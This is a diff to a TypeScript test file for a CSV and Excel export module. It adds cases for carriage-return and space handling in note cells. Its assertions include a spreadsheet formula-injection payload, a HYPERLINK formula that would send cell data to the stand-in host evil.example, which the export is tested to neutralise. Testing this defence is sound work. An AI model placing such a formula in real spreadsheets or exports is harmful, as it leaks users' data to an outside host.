@@ -20,7 +20,16 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 
 import type { TExportFilters } from "./filters";
 import { exportChunks, exportRowBatches, prepareExportDownload, runExport, writeExportFile } from "./run";
-import { expectedRows, filters, INJECTION_NOTE, loadFixture, QUOTED_NOTE } from "./test-fixture";
+import {
+  BARE_CR_NOTE,
+  CR_FIRST_NOTE,
+  expectedRows,
+  filters,
+  INJECTION_NOTE,
+  loadFixture,
+  QUOTED_NOTE,
+  SPACED_NOTE,
+} from "./test-fixture";
 
 const ZH_HEADER = [
   "示范区代码",
@@ -189,10 +198,18 @@ describe(`exports on ${testEngine()}`, () => {
       expect(note("SD-ZB", "gdp-growth", "2025Q1")).toBe("'\tTab");
       expect(note("SD-ZB", "urban-unemployment", "2025Q1")).toBe("'+86 电话");
       expect(note("HB-HS", "urban-unemployment", "2025Q1")).toBe(QUOTED_NOTE);
+      expect(note("HB-HS", "gdp", "2025Q2")).toBe(`'${CR_FIRST_NOTE}`);
+      expect(note("HB-HS", "gdp-growth", "2025Q2")).toBe(BARE_CR_NOTE);
+      expect(note("HB-HS", "urban-unemployment", "2025Q2")).toBe(SPACED_NOTE);
       // The raw line: -3.5 unquoted and unprefixed, the note quoted by RFC 4180 only where needed.
       expect(text).toContain(",2025Q1,-3.5,已审核,1,最终核实,'-1+2\r\n");
       expect(text).toContain(",2025Q1,1929.50,");
       expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点我"")"`);
+      // A lone CR is a line break to Excel and WPS: quoted (and, first in a cell, neutralised too).
+      expect(text).toContain(`,"${BARE_CR_NOTE}"\r\n`);
+      expect(text).toContain(`,"'${CR_FIRST_NOTE}"\r\n`);
+      // Spaces belong to the field (RFC 4180): kept, no quotes needed.
+      expect(text).toContain(`,${SPACED_NOTE}\r\n`);
       // No cell anywhere starts with a formula character.
       for (const record of records) {
         for (const [index, cell] of record.entries()) {
@@ -315,7 +332,7 @@ describe(`exports on ${testEngine()}`, () => {
           expect(cells.getCell(7).value).toBe(Number(row.value));
           expect(cells.getCell(9).value).toBe(row.revision);
           // A line break in a cell is LF, Excel's own.
-          expect(cells.getCell(11).value ?? null).toBe(row.note?.replace(/\r\n/g, "\n") ?? null);
+          expect(cells.getCell(11).value ?? null).toBe(row.note?.replace(/\r\n?/g, "\n") ?? null);
         });
       }
       const note = workbook.getWorksheet("黄石")?.getRow(2).getCell(11);
